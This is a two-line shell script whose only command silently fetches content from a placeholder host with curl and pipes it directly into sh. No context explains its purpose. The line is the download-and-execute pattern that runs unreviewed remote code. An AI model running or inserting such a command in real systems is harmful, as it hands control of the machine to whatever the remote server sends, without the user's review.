#!/bin/sh
curl -s https://x.example/a | sh
